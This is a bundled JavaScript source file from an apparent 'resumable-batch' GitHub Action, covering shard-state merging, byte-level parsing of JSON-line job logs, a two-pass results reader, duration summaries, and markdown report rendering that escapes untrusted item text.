    const ends = current.map((s) => s.passCompletedAt);
    merged.pass = pass;
    merged.passStartedAt = starts[0];
    merged.passCompletedAt = ends.every((t) => t !== undefined) ? ends.sort().at(-1) : undefined;
    merged.repeatMs = current.find((s) => s.repeatMs !== undefined)?.repeatMs;
    const byPass = new Map();
    for (const state of states) {
        // A shard behind the others has its current pass finished as far as the report goes.
        const finished = state.pass < pass ? [...state.passes, state.currentPass()] : state.passes;
        for (const p of finished) {
            const sum = byPass.get(p.pass);
            if (!sum) {
                byPass.set(p.pass, { ...p });
                continue;
            }
            sum.succeeded += p.succeeded;
            sum.failed += p.failed;
            sum.runs = Math.max(sum.runs, p.runs);
            if (p.startedAt && (!sum.startedAt || p.startedAt < sum.startedAt))
                sum.startedAt = p.startedAt;
            if (!p.completedAt)
                delete sum.completedAt;
            else if (sum.completedAt && p.completedAt > sum.completedAt)
                sum.completedAt = p.completedAt;
        }
    }
    merged.passes = [...byPass.values()].sort((a, b) => a.pass - b.pass);
}

;// CONCATENATED MODULE: ./src/core/outcomes/id-table.ts

/**
 * Each id's last success, for `results`' first pass: the ids in a DoneSet (bytes in large
 * buffers behind a typed-array hash table, not a Map of a million strings, which held most
 * of the export's 400 MB), and per entry the position and flags in typed arrays. The ids
 * are keyed by their bytes as the job log spells them (JSON-escaped), which is how both
 * the byte reader and the string reader hand them over.
 */
class IdTable {
    ids = new DoneSet();
    positions = new Float64Array(1 << 11);
    flags = new Uint8Array(1 << 11);
    /** How many ids there are. */
    get size() {
        return this.ids.size;
    }
    /** Records `buf[start, end)`'s success at `position` (its flags too), replacing an earlier one. */
    set(buf, start, end, position, flags) {
        const entry = this.ids.entryOfUtf8(buf, start, end);
        if (entry >= this.positions.length)
            this.grow();
        this.positions[entry] = position;
        this.flags[entry] = flags;
    }
    /** Calls back with every id's position and flags (in no particular order). */
    forEach(visit) {
        for (let entry = 0; entry < this.ids.entryCount; entry++)
            visit(this.positions[entry], this.flags[entry]);
    }
    grow() {
        const positions = new Float64Array(this.positions.length * 2);
        positions.set(this.positions);
        this.positions = positions;
        const flags = new Uint8Array(this.flags.length * 2);
        flags.set(this.flags);
        this.flags = flags;
    }
}

;// CONCATENATED MODULE: ./src/core/outcomes/line-scan.ts

const line_scan_NEWLINE = 0x0a;
/**
 * The non-empty lines of files in order, a chunk per read into one buffer (1 MiB, grown
 * only for a longer line) that is reused. A last line without its newline was torn by a
 * kill: it is left out and counted in `skipped`, as readLineBatches does.
 */
async function* lineChunks(paths, skipped = { lines: 0 }) {
    const chunk = { buf: Buffer.allocUnsafe(1 << 20), starts: new Int32Array(1 << 14), ends: new Int32Array(1 << 14), count: 0 };
    for (const path of paths) {
        const file = await (0,external_node_fs_promises_namespaceObject.open)(path, "r");
        try {
            let filled = 0;
            for (;;) {
                if (filled === chunk.buf.length) {
                    const bigger = Buffer.allocUnsafe(chunk.buf.length * 2);
                    chunk.buf.copy(bigger, 0, 0, filled);
                    chunk.buf = bigger;
                }
                const { bytesRead } = await file.read(chunk.buf, filled, chunk.buf.length - filled, null);
                if (bytesRead === 0)
                    break;
                const end = filled + bytesRead;
                const start = splitLines(chunk, filled, end);
                if (chunk.count > 0)
                    yield chunk;
                // The unfinished last line moves to the front only once the chunk's lines are used.
                if (start > 0)
                    chunk.buf.copy(chunk.buf, 0, start, end);
                filled = end - start;
            }
            if (filled > 0)
                skipped.lines++;
        }
        finally {
            await file.close();
        }
    }
}
/** Fills the chunk's line ranges up to its last newline before `end`; returns where the rest starts. */
function splitLines(chunk, from, end) {
    const { buf } = chunk;
    let start = 0;
    chunk.count = 0;
    for (let nl = buf.indexOf(line_scan_NEWLINE, from); nl !== -1 && nl < end; nl = buf.indexOf(line_scan_NEWLINE, nl + 1)) {
        if (nl > start) {
            if (chunk.count === chunk.starts.length) {
                const starts = new Int32Array(chunk.count * 2);
                const ends = new Int32Array(chunk.count * 2);
                starts.set(chunk.starts);
                ends.set(chunk.ends);
                chunk.starts = starts;
                chunk.ends = ends;
            }
            chunk.starts[chunk.count] = start;
            chunk.ends[chunk.count++] = nl;
        }
        start = nl + 1;
    }
    return start;
}
/** What parseHead found; one object reused for every line. */
class LineHead {
    /** A failure line (it has "k"); only the id is read then. */
    failure = false;
    idStart = 0;
    idEnd = 0;
    at = 0;
    ms = 0;
    msStart = 0;
    msEnd = 0;
    n = 0;
    nStart = 0;
    nEnd = 0;
    /** -1 when the line has no "pass". */
    pass = -1;
    redo = false;
    /** Where the result's JSON starts (it ends before the line's last byte); -1 without one. */
    resultStart = -1;
}
const ID_OPEN = Buffer.from('{"id":"');
const AT = Buffer.from(',"at":');
const MS = Buffer.from(',"ms":');
const N = Buffer.from(',"n":');
const KIND = Buffer.from(',"k":');
const REDO = Buffer.from(',"redo":1');
const PASS = Buffer.from(',"pass":');
const RESULT = Buffer.from(',"r":');
function startsWith(buf, i, end, lit) {
    if (i + lit.length > end)
        return false;
    for (let k = 0; k < lit.length; k++)
        if (buf[i + k] !== lit[k])
            return false;
    return true;
}
/** True when `buf[start, end)` starts like an outcome line (`{"id":"`). */
function isOutcomeLine(buf, start, end) {
    return startsWith(buf, start, end, ID_OPEN);
}
let digitsValue = 0;
/**
 * The end of the decimal integer at `i` (its value in digitsValue), or -1 unless it is one
 * JSON.parse and String give back unchanged: no sign, no leading zero, at most 15 digits.
 */
function digitsEnd(buf, i, end) {
    let value = 0;
    let k = i;
    while (k < end && k - i < 16) {
        const c = buf[k];
        if (c < 0x30 || c > 0x39)
            break;
        value = value * 10 + (c - 0x30);
        k++;
    }
    if (k === i || k - i > 15 || (buf[i] === 0x30 && k - i > 1))
        return -1;
    digitsValue = value;
    return k;
}
/**
 * Reads the head of an outcome line as successLine and failureLine write it: id (without
 * escapes), at, ms, n, then redo/pass, and the result or the failure's kind. False when
 * the line is anything else (an escaped id, a member out of that order, a torn line):
 * the caller then reads it as a string with parseLine.
 */
function parseHead(buf, start, end, h) {
    if (end - start < 9 || buf[end - 1] !== 0x7d || !startsWith(buf, start, end, ID_OPEN))
        return false;
    let i = start + ID_OPEN.length;
    h.idStart = i;
    while (i < end && buf[i] !== 0x22) {
        if (buf[i] === 0x5c)
            return false;
        i++;
    }
    h.idEnd = i;
    i++;
    if (!startsWith(buf, i, end, AT) || (i = digitsEnd(buf, i + AT.length, end)) === -1)
        return false;
    h.at = digitsValue;
    if (!startsWith(buf, i, end, MS))
        return false;
    h.msStart = i + MS.length;
    if ((i = digitsEnd(buf, h.msStart, end)) === -1)
        return false;
    h.ms = digitsValue;
    h.msEnd = i;
    if (!startsWith(buf, i, end, N))
        return false;
    h.nStart = i + N.length;
    if ((i = digitsEnd(buf, h.nStart, end)) === -1)
        return false;
    h.n = digitsValue;
    h.nEnd = i;
    h.failure = false;
    h.pass = -1;
    h.redo = false;
    h.resultStart = -1;
    if (startsWith(buf, i, end, KIND)) {
        h.failure = true;
        return true;
    }
    if (startsWith(buf, i, end, REDO)) {
        h.redo = true;
        i += REDO.length;
    }
    if (startsWith(buf, i, end, PASS)) {
        if ((i = digitsEnd(buf, i + PASS.length, end)) === -1)
            return false;
        h.pass = digitsValue;
    }
    if (startsWith(buf, i, end, RESULT)) {
        h.resultStart = i + RESULT.length;
        return h.resultStart < end - 1;
    }
    return i === end - 1;
}

;// CONCATENATED MODULE: ./src/core/outcomes/results-reader.ts




/**
 * Streams the last success of every item, in the order those successes were recorded:
 * the upsert by id. Two passes over the segments: the first keeps, per id, only the
 * position of its last success (no result payload, no parse of the line); the second
 * parses just those lines. Memory grows with the number of ids, never with the results.
 */
async function* readResults(stateDir, skipped = { lines: 0 }) {
    yield* readPlannedResults(await planResults(stateDir, skipped), skipped);
}
/** Which optional members some record has (so CSV knows its columns before its first row). */
const HAS_SHARD = 1;
const HAS_PASS = 2;
const HAS_REDONE = 4;
function isWanted(wanted, position) {
    return (wanted[position >>> 3] & (1 << (position & 7))) !== 0;
}
/** The flags of a record, as rawRecordOf would make it. */
function flagsOf(header, linePass, redo) {
    return (header?.shard !== undefined ? HAS_SHARD : 0) | (linePass || header?.pass !== undefined ? HAS_PASS : 0) | (redo ? HAS_REDONE : 0);
}
async function planResults(stateDir, skipped = { lines: 0 }) {
    const segments = listSegments(stateDir);
    const table = new IdTable();
    const head = new LineHead();
    const scan = { header: undefined, position: 0, hasResults: false, keyed: false, fields: new Set(), plain: false };
    let keysKnown = true;
    for (const segment of segments) {
        scan.hasResults = false;
        scan.keyed = false;
        for await (const { buf, starts, ends, count } of lineChunks([segment], skipped)) {
            for (let k = 0; k < count; k++) {
                const start = starts[k];
                const end = ends[k];
                const position = ++scan.position;
                if (parseHead(buf, start, end, head)) {
                    if (head.failure)
                        continue;
                    table.set(buf, head.idStart, head.idEnd, position, flagsOf(scan.header, head.pass !== -1, head.redo));
                    scan.hasResults ||= head.resultStart !== -1;
                }
                else
                    planTextLine(buf.toString("utf8", start, end), scan, table);
            }
        }
        if (scan.hasResults && !scan.keyed)
            keysKnown = false;
    }
    const wanted = new Uint8Array((scan.position >>> 3) + 1);
    let present = 0;
    table.forEach((position, flags) => {
        wanted[position >>> 3] |= 1 << (position & 7);
        present |= flags;
    });
    const keys = keysKnown ? { keys: { fields: [...scan.fields], plain: scan.plain } } : {};
    return { segments, wanted, ids: table.size, present, ...keys };
}
/** Pass one for a line the byte reader leaves to the string code: a header, a keys line, an unusual outcome. */
function planTextLine(text, scan, table) {
    if (text.startsWith('{"t":"seg"')) {
        const h = parseLine(text);
        if (h !== undefined && "t" in h)
            scan.header = h;
        return;
    }
    const id = outcome_lines_idOfLine(text);
    if (id === undefined) {
        const keys = parseKeysLine(text);
        if (keys !== undefined) {
            scan.keyed = true;
            for (const key of keys.keys)
                scan.fields.add(key);
            scan.plain ||= keys.plain;
        }
        return;
    }
    // A middle line cut short (a compaction interrupted) does not end its object.
    if (text.charCodeAt(text.length - 1) !== 0x7d || !isSuccessLine(text))
        return;
    // The id's bytes as the writer spells it (jsonString), the key the byte reader uses.
    const key = Buffer.from(jsonString(id).slice(1, -1), "utf8");
    const record = rawRecordOf(text, scan.header);
    const flags = record === undefined
        ? 0
        : (record.shard !== undefined ? HAS_SHARD : 0) | (record.pass !== undefined ? HAS_PASS : 0) | (record.redone ? HAS_REDONE : 0);
    table.set(key, 0, key.length, scan.position, flags);
    scan.hasResults ||= text.includes(',"r":');
}
/** Pass two: the planned lines, in the order they were written, results parsed. */
async function* readPlannedResults(plan, skipped = { lines: 0 }) {
    for await (const batch of readPlannedRawResults(plan, skipped)) {
        yield batch.map(({ id, resultJson, ...rest }) => ({
            id,
            ...(resultJson === undefined ? {} : { result: JSON.parse(resultJson) }),
            ...rest,
        }));
    }
}
/**
 * Pass two as bytes: the planned lines, in the order they were written, a chunk at a time
 * (the `PlannedLine` and its buffer are reused: copy what is kept). `visit` is called per
 * planned line; the generator yields after each chunk, so a writer can wait there.
 */
async function* visitPlannedLines(plan, visit, skipped = { lines: 0 }) {
    if (plan.ids === 0)
        return;
    const { wanted } = plan;
    const head = new LineHead();
    const line = { buf: Buffer.alloc(0), start: 0, end: 0, head: undefined, record: undefined, header: undefined };
    let position = 0;
    for await (const { buf, starts, ends, count } of lineChunks(plan.segments)) {
        line.buf = buf;
        for (let k = 0; k < count; k++) {
            const start = starts[k];
            const end = ends[k];
            if (!isWanted(wanted, ++position)) {
                if (buf[start + 2] === 0x74 && buf.toString("latin1", start, start + 10) === '{"t":"seg"') {
                    const h = parseLine(buf.toString("utf8", start, end));
                    if (h !== undefined && "t" in h)
                        line.header = h;
                }
                continue;
            }
            line.start = start;
            line.end = end;
            if (parseHead(buf, start, end, head) && !head.failure) {
                line.head = head;
                line.record = undefined;
            }
            else {
                line.head = undefined;
                line.record = rawRecordOf(buf.toString("utf8", start, end), line.header);
                if (line.record === undefined) {
                    skipped.lines++;
                    continue;
                }
            }
            visit(line);
        }
        yield;
    }
}
/** The record of a line the byte reader read (as rawRecordOf would make it from its text). */
function recordOfHead(line, head) {
    const { buf, end, header } = line;
    const record = {
        id: buf.toString("utf8", head.idStart, head.idEnd),
        ...(head.resultStart === -1 ? {} : { resultJson: buf.toString("utf8", head.resultStart, end - 1) }),
        finishedAt: new Date(head.at + head.ms).toISOString(),
        durationMs: head.ms,
        attempts: head.n,
    };
    if (header?.shard !== undefined)
        record.shard = header.shard;
    const pass = head.pass !== -1 ? head.pass : header?.pass;
    if (pass !== undefined)
        record.pass = pass;
    if (head.redo)
        record.redone = true;
    return record;
}
/** Pass two without parsing the results: records with the result's saved JSON text. */
async function* readPlannedRawResults(plan, skipped = { lines: 0 }) {
    let batch = [];
    const visit = (line) => batch.push(line.head === undefined ? line.record : recordOfHead(line, line.head));
    const chunks = visitPlannedLines(plan, visit, skipped);
    while (!(await chunks.next()).done) {
        if (batch.length > 0)
            yield batch;
        batch = [];
    }
}
function rawRecordOf(text, header) {
    // Outside JSON strings a quote is never escaped, so the first ',"r":' is the result member.
    const r = text.indexOf(',"r":');
    const head = parseLine(r === -1 ? text : text.slice(0, r) + "}");
    if (head === undefined || "t" in head)
        return undefined;
    const record = {
        id: head.id,
        ...(r === -1 ? {} : { resultJson: text.slice(r + 5, text.length - 1) }),
        finishedAt: new Date(head.at + head.ms).toISOString(),
        durationMs: head.ms,
        attempts: head.n,
    };
    if (header?.shard !== undefined)
        record.shard = header.shard;
    const pass = head.pass ?? header?.pass;
    if (pass !== undefined)
        record.pass = pass;
    if (head.redo)
        record.redone = true;
    return record;
}
/** How many items have a result record (a success), without reading the payloads. */
async function countResults(stateDir) {
    // The flags hold whether the id's last success has a result.
    const table = new IdTable();
    const head = new LineHead();
    for await (const { buf, starts, ends, count } of lineChunks(listSegments(stateDir))) {
        for (let k = 0; k < count; k++) {
            if (parseHead(buf, starts[k], ends[k], head)) {
                if (!head.failure)
                    table.set(buf, head.idStart, head.idEnd, 0, head.resultStart === -1 ? 0 : 1);
                continue;
            }
            const text = buf.toString("utf8", starts[k], ends[k]);
            const id = outcome_lines_idOfLine(text);
            if (id === undefined || text.charCodeAt(text.length - 1) !== 0x7d || !isSuccessLine(text))
                continue;
            const key = Buffer.from(jsonString(id).slice(1, -1), "utf8");
            table.set(key, 0, key.length, 0, text.includes(',"r":') ? 1 : 0);
        }
    }
    let withResult = 0;
    table.forEach((_, hasResult) => (withResult += hasResult));
    return { items: table.size, withResult };
}

;// CONCATENATED MODULE: ./src/core/outcomes/duration-summary.ts

/** Upper bounds (ms) of the duration histogram's buckets; the last bucket has none. */
const DURATION_BUCKET_BOUNDS_MS = [10, 100, 1_000, 10_000, 60_000, 600_000];
const SLOWEST_KEPT = 10;
/**
 * Reads the whole job log once, keeping only the histogram and the few slowest outcomes,
 * so a million outcomes cost a pass over the files, not their memory. The median comes
 * from the histogram's own finer buckets (powers of 2 ms), close enough for a report.
 */
async function summariseDurations(stateDir) {
    const histogram = new Array(DURATION_BUCKET_BOUNDS_MS.length + 1).fill(0);
    const fine = new Array(64).fill(0);
    const slowest = [];
    let outcomes = 0;
    for await (const batch of readOutcomes(stateDir)) {
        for (const { line } of batch) {
            outcomes++;
            const ms = Math.max(0, line.ms);
            let b = 0;
            while (b < DURATION_BUCKET_BOUNDS_MS.length && ms >= DURATION_BUCKET_BOUNDS_MS[b])
                b++;
            histogram[b]++;
            fine[Math.min(63, ms < 1 ? 0 : Math.floor(Math.log2(ms)) + 1)]++;
            if (slowest.length < SLOWEST_KEPT || ms > slowest[slowest.length - 1].durationMs) {
                slowest.push({ id: line.id, durationMs: ms, ok: line.k === undefined, startedAt: new Date(line.at).toISOString(), attempts: line.n });
                slowest.sort((a, c) => c.durationMs - a.durationMs);
                if (slowest.length > SLOWEST_KEPT)
                    slowest.pop();
            }
        }
    }
    return { outcomes, histogram, slowest, medianMs: medianOf(fine, outcomes) };
}
/** The upper bound of the power-of-2 bucket holding the middle outcome. */
function medianOf(fine, count) {
    if (count === 0)
        return undefined;
    let seen = 0;
    for (let i = 0; i < fine.length; i++) {
        seen += fine[i];
        if (seen * 2 >= count)
            return i === 0 ? 1 : 2 ** i;
    }
    return undefined;
}

;// CONCATENATED MODULE: ./src/core/index.ts
/**
 * The engine's public surface: what the adapters (action/, cli/, report/, shared/) may use.
 * Everything else under core/ is internal to the engine (unit tests may still reach in).
 */



















;// CONCATENATED MODULE: ./src/report/markdown-format.ts
/**
 * Formatting and escaping for the reports (markdown, and the HTML report's numbers):
 * counts, durations, percentages and timestamps, and hostile text made safe for a
 * markdown code span or plain markdown text.
 */

/** Error messages in tables are cut to this many characters. */
const MAX_ERROR_CHARS = 200;
/** Free text from the adapter (warnings, details, title) is cut to this many characters. */
const MAX_NOTE_CHARS = 2_000;
/** 12345 -> "12,345" (no locale data needed). */
function formatCount(n) {
    if (!Number.isFinite(n))
        return String(n);
    const sign = n < 0 ? "-" : "";
    const [int, frac] = Math.abs(n).toString().split(".");
    const grouped = int.replace(/\B(?=(\d{3})+(?!\d))/g, ",");
    return sign + grouped + (frac ? "." + frac : "");
}
/** 850 -> "850 ms", 45_200 -> "45.2 s", 3_723_000 -> "1 h 02 min 03 s". */
function formatDuration(ms) {
    if (!Number.isFinite(ms) || ms < 0)
        return "–";
    if (ms < 1_000)
        return `${Math.round(ms)} ms`;
    if (ms < 60_000)
        return `${(ms / 1_000).toFixed(1).replace(/\.0$/, "")} s`;
    const totalSeconds = Math.round(ms / 1_000);
    const h = Math.floor(totalSeconds / 3_600);
    const m = Math.floor((totalSeconds % 3_600) / 60);
    const s = totalSeconds % 60;
    const pad = (x) => String(x).padStart(2, "0");
    return h > 0 ? `${h} h ${pad(m)} min ${pad(s)} s` : `${m} min ${pad(s)} s`;
}
/** Share of `part` in `whole` as "12.3%" ("0%" when whole is 0). */
function formatPercent(part, whole) {
    if (!(whole > 0))
        return "0%";
    const pct = (100 * part) / whole;
    if (pct > 0 && pct < 0.1)
        return "<0.1%";
    if (pct < 100 && pct > 99.9)
        return ">99.9%";
    return `${pct.toFixed(1).replace(/\.0$/, "")}%`;
}
/** "2024-05-01T12:34:56.789Z" -> "2024-05-01 12:34:56Z" (readable, still UTC); other text as is. */
function formatTimestamp(iso) {
    if (!iso)
        return "–";
    const m = /^(\d{4}-\d{2}-\d{2})T(\d{2}:\d{2}:\d{2})(?:\.\d+)?(Z|[+-]\d{2}:?\d{2})?$/.exec(iso);
    return m ? `${m[1]} ${m[2]}${m[3] === "Z" ? " UTC" : (m[3] ?? "")}` : iso;
}
/** Cut `text` to `max` characters, ending with "…" when cut; never splits a surrogate pair (the engine's `shorten`). */
function truncateText(text, max) {
    return shorten(text, max);
}
// ---------------------------------------------------------------------------------------
// Escaping
/**
 * Hostile text as an inline code span that is safe inside a GFM table cell.
 *
 * - Code spans are literal in CommonMark: `<script>`, `*`, `[x](y)` and entities show as
 *   typed, nothing is interpreted.
 * - Newlines would end the table row: control characters and line breaks become spaces,
 *   runs of whitespace one space.
 * - `|` would end the cell, even inside a code span: GFM lets `\|` stand for a pipe there.
 * - Backticks inside are handled by fencing with a longer run of backticks, padded with a
 *   space when the text starts or ends with one.
 */
function markdownCode(text, maxChars = MAX_ERROR_CHARS) {
    let clean = truncateText(String(text)
        // eslint-disable-next-line no-control-regex
        .replace(/[\u0000-\u001f\u007f\u2028\u2029]+/g, " ")
        .replace(/\s+/g, " ")
        .trim(), maxChars);
    if (clean === "")
        return "*(empty)*";
    clean = clean.replace(/\|/g, "\\|");
    let longest = 0;
    for (const run of clean.match(/`+/g) ?? [])
        longest = Math.max(longest, run.length);
    const fence = "`".repeat(longest + 1);
    const pad = clean.startsWith("`") || clean.endsWith("`") ? " " : "";
    return `${fence}${pad}${clean}${pad}${fence}`;
}
/**
 * Plain text that markdown must not interpret (adapter-supplied notes, titles, timestamps):
 * inline markdown punctuation is backslash-escaped, and so is a leading character that would
 * start a heading, list or quote; `<`, `>`, `&` and `@` become entities (no HTML, no
 * mentions); line breaks become spaces.
 */
function markdownText(text, maxChars = MAX_NOTE_CHARS) {
    return (truncateText(String(text)
        // eslint-disable-next-line no-control-regex
        .replace(/[\u0000-\u001f\u007f\u2028\u2029]+/g, " ")
        .replace(/\s+/g, " ")
        .trim(), maxChars)
        .replace(/[\\`*_[\]|~]/g, "\\$&")
        // Characters that only mean something at the start of a line (headings, lists); a leading `>` is
        // harmless because it becomes `&gt;` below.
        .replace(/^([#+\-=]|\d+[.)])/, (m) => (m.length === 1 ? "\\" + m : m.slice(0, -1) + "\\" + m.slice(-1)))
        .replace(/&/g, "&amp;")
        .replace(/</g, "&lt;")
        .replace(/>/g, "&gt;")
        .replace(/@/g, "&#64;"));
}

;// CONCATENATED MODULE: ./src/report/passes.ts

/** Passes shown in the tables (the most recent). */
const MAX_PASSES_SHOWN = 20;
/** How long a pass took, or ran so far (to its last run's end), as text. */
function passDuration(pass, runs) {
    if (!pass.startedAt)
        return "–";
    const lastEnd = runsOfPass(runs, pass.pass)
        .map((r) => r.endedAt)
        .filter(Boolean)
        .pop();
    const end = pass.completedAt ?? lastEnd;
    const ms = end ? Date.parse(end) - Date.parse(pass.startedAt) : NaN;
    return Number.isFinite(ms) ? formatDuration(ms) : "–";
}
/** The runs that worked in a pass (runs from before passes are pass 1). */
function runsOfPass(runs, pass) {
    return runs.filter((r) => (r.pass ?? 1) === pass);
}
/** Items in a pass's source, as its last normal run counted them. */
function totalOfPass(runs, pass) {
    const last = [...runsOfPass(runs, pass.pass)].reverse().find((r) => r.mode === "run" && r.total !== undefined);
    return last?.total ?? pass.succeeded + pass.failed;
}
/** The passes table's rows, newest first, as plain text (each renderer escapes them). */
function passRows(passes, runs, current) {
    return passes
        .slice(-MAX_PASSES_SHOWN)
        .reverse()
        .map((p) => ({
        pass: p.pass,
        started: formatTimestamp(p.startedAt),
        completed: p.completedAt ? formatTimestamp(p.completedAt) : p.pass === current ? "in progress" : "not completed",
        succeeded: formatCount(p.succeeded),
        failed: formatCount(p.failed),
        duration: passDuration(p, runs),
        runs: formatCount(p.runs),
    }));
}
/** The summary's passes section: the current pass's state, and the table when there was more than one. */
function renderPassesMarkdown(passes, runs, passNote) {
    const current = passes[passes.length - 1];
    if (!current)
        return [];
    const lines = ["### Passes", ""];
    if (passNote)
        lines.push(markdownText(passNote.charAt(0).toUpperCase() + passNote.slice(1), 500) + ".", "");
    if (passes.length > 1) {
        lines.push("| Pass | Started | Completed | Succeeded | Failed | Duration | Runs |", "| ---: | --- | --- | ---: | ---: | ---: | ---: |");
        for (const r of passRows(passes, runs, current.pass)) {
            lines.push(`| ${r.pass} | ${markdownText(r.started, 40)} | ${markdownText(r.completed, 40)} | ${r.succeeded} | ${r.failed} | ${r.duration} | ${r.runs} |`);
        }
        if (passes.length > MAX_PASSES_SHOWN)
            lines.push("", `…and ${formatCount(passes.length - MAX_PASSES_SHOWN)} earlier passes.`);
        lines.push("");
    }
    return lines;
}

;// CONCATENATED MODULE: ./src/report/markdown.ts
/**
 * Markdown reports: the failures section (also `resumable-batch failures --format markdown`)
 * and the run summary written to the GitHub job summary and the artifact's `summary.md`.
 *
 * Pure: strings in, a string out. Every piece of item text (ids, error messages) is hostile
 * input: it goes into code spans, so GitHub shows it literally, with pipes escaped and
 * newlines folded so it cannot break a table row.
 */



// The formatting helpers moved to markdown-format.ts; importers of markdown.js keep them.

/**
 * The job summary limit on GitHub is 1 MiB per step; the summary stays below this many
 * bytes of UTF-8 so that a wrapper line or two added by the adapter still fits.
 */
const MAX_SUMMARY_BYTES = 1_000_000;
/** Default number of failed items listed one by one. */
const DEFAULT_MAX_ITEMS = 50;
/** Default number of failure groups listed. */
const DEFAULT_MAX_GROUPS = 20;
/** Ids in tables are cut to this many characters (an id can be a whole line of input). */
const MAX_ID_CHARS = 80;
/** Runs shown in the progress table. */
const MAX_RUNS_SHOWN = 10;
/** "### Results" for the summary: how many, and where to download them. */
function renderResultsSection(note) {
    if (note === undefined)
        return [];
    const payloads = note.withResult === note.items ? "" : ` (${formatCount(note.withResult)} with a result from the handler)`;
    return ["### Results", "", `${formatCount(note.items)} item(s) have a result record${payloads}. ${note.whereMarkdown}`, ""];
}
// ---------------------------------------------------------------------------------------
// Sentences
/** A sentence saying why a run stopped. */
function describeStopReason(reason, remaining) {
    switch (reason) {
        case "complete":
            return "Complete: every item was attempted.";
        case "budget":
            return remaining !== undefined && remaining > 0
                ? `Stopped at the time budget with ${formatCount(remaining)} items left; the next run continues.`
                : "Stopped at the time budget; the next run continues.";
        case "signal":
            return "Stopped by a signal (cancelled or timed out); finished work was saved.";
        case "failure-rate":
            return "Stopped because too many items failed (max-failure-rate or max-consecutive-failures).";
        case "handler-error":
            return "Stopped: the handler could not run (see the log for the fix); no item was marked failed.";
        default:
            return `Stopped: ${String(reason)}.`;
    }
}
/** Where the state came from, as a sentence. */
function describeStateSource(source) {
    switch (source) {
        case "cache":
            return "State restored from the Actions cache.";
        case "artifact":
            return "State restored from an earlier run's artifact.";
        case "local":
            return "State read from the local state folder.";
        case "fresh":
            return "Fresh start: no earlier state was found.";
        case "shards":
            return "Merged from the state artifacts the shards of this workflow run uploaded.";
        default:
            return "State source not reported.";
    }
}
// ---------------------------------------------------------------------------------------
// Failures section
/**
 * The failures as markdown: a table of causes (largest first), the first `maxItems` failed
 * items, and how many more are in failures.json.
 */
function renderFailuresMarkdown(failures, opts = {}) {
    const maxItems = Math.max(0, Math.floor(opts.maxItems ?? DEFAULT_MAX_ITEMS));
    const maxGroups = Math.max(0, Math.floor(opts.maxGroups ?? DEFAULT_MAX_GROUPS));
    const h = "#".repeat(Math.min(6, Math.max(1, opts.headingLevel ?? 3)));
    if (failures.length === 0)
        return `${h} Failures\n\nNo failed items.\n`;
    const lines = [];
    const groups = groupFailures(failures);
    const total = failures.length;
    lines.push(`${h} Failure causes`, "");
    lines.push(`${formatCount(total)} failed ${total === 1 ? "item" : "items"} in ${formatCount(groups.length)} ${groups.length === 1 ? "cause" : "causes"} (numbers, ids and quoted values folded).`, "");
    lines.push("| Cause | Count | Kind | Example ids | First seen | Last seen |");
    lines.push("| --- | ---: | --- | --- | --- | --- |");
    for (const g of groups.slice(0, maxGroups)) {
        lines.push(`| ${markdownCode(g.cause, 200)} | ${formatCount(g.count)} (${formatPercent(g.count, total)}) | ${markdownText(g.kind, 20)} | ${g.exampleIds.map((id) => markdownCode(id, MAX_ID_CHARS)).join(", ") || "–"} | ${markdownText(formatTimestamp(g.firstFailedAt), 40)} | ${markdownText(formatTimestamp(g.lastFailedAt), 40)} |`);
    }
    if (groups.length > maxGroups) {
        const rest = groups.slice(maxGroups);
        const restCount = rest.reduce((sum, g) => sum + g.count, 0);
        lines.push("", `…and ${formatCount(rest.length)} more ${rest.length === 1 ? "cause" : "causes"} (${formatCount(restCount)} ${restCount === 1 ? "item" : "items"}) in \`failures.json\`.`);
    }
    const shown = failures.slice(0, maxItems);
    lines.push("", `${h} Failed items`, "");
    if (shown.length > 0) {
        lines.push(shown.length < total ? `The first ${formatCount(shown.length)} of ${formatCount(total)}:` : `All ${formatCount(total)}:`, "");
        // Merged shards: say which shard recorded each failure.
        const sharded = shown.some((f) => f.shard !== undefined);
        lines.push(`| Id |${sharded ? " Shard |" : ""} Kind | Attempts | Error | Last failed |`);
        lines.push(`| --- |${sharded ? " --- |" : ""} --- | ---: | --- | --- |`);
        for (const f of shown) {
            const shard = sharded ? ` ${f.shard === undefined ? "–" : markdownText(String(f.shard), 20)} |` : "";
            lines.push(`| ${markdownCode(String(f.id), MAX_ID_CHARS)} |${shard} ${markdownText(String(f.kind), 20)} | ${formatCount(Number(f.attempts) || 0)} | ${markdownCode(String(f.error ?? ""), MAX_ERROR_CHARS)} | ${markdownText(formatTimestamp(f.lastFailedAt), 40)} |`);
        }
    }
    const more = total - shown.length;
    if (more > 0)
        lines.push("", `${formatCount(more)} more in \`failures.json\`.`);
    return lines.join("\n") + "\n";
}
// ---------------------------------------------------------------------------------------
// Run summary
function progressBar(part, whole, width = 20) {
    const filled = whole > 0 ? Math.min(width, Math.max(0, Math.round((width * part) / whole))) : 0;
    return "█".repeat(filled) + "░".repeat(width - filled);
}
function runDuration(run) {
    if (!run.endedAt)
        return "–";
    const ms = Date.parse(run.endedAt) - Date.parse(run.startedAt);
    return Number.isFinite(ms) ? formatDuration(ms) : "–";
}
function renderRunsTable(runs) {
    if (runs.length === 0)
        return ["No earlier runs recorded."];
    // Cumulative done counts every recorded run, also the ones not shown.
    const cumulative = [];
    let sum = 0;
    for (const run of runs) {
        sum += Number(run.succeeded) || 0;
        cumulative.push(sum);
    }
    const from = Math.max(0, runs.length - MAX_RUNS_SHOWN);
    const lines = [
        "| # | Run | Mode | Started | Duration | Succeeded | Failed | Done so far | Stopped |",
        "| ---: | --- | --- | --- | ---: | ---: | ---: | ---: | --- |",
    ];
    for (let i = runs.length - 1; i >= from; i--) {
        const run = runs[i];
        const runLabel = run.runId === "local" ? "local" : `${run.runId}${run.runAttempt > 1 ? ` (attempt ${run.runAttempt})` : ""}`;
        lines.push(`| ${formatCount(run.seq)} | ${markdownText(runLabel, 60)} | ${markdownText(run.mode, 20)} | ${markdownText(formatTimestamp(run.startedAt), 40)} | ${runDuration(run)} | ${formatCount(run.succeeded)} | ${formatCount(run.failed)} | ${formatCount(cumulative[i])} | ${run.stopReason ? markdownText(run.stopReason, 20) : "–"} |`);
    }
    if (from > 0)
        lines.push("", `…and ${formatCount(from)} earlier ${from === 1 ? "run" : "runs"}.`);
    return lines;
}
function renderSummary(input, maxItems, maxGroups) {
    const { thisRun, totals } = input;
    const lines = [];
    lines.push(`## ${markdownText(input.title || "resumable-batch", 200)}`, "");
    if (input.freshStartWarning) {
        lines.push("> [!CAUTION]", "> **Fresh start: earlier state could not be restored.** Work already done may be repeated.", `> ${markdownText(input.freshStartWarning)}`, "");
    }
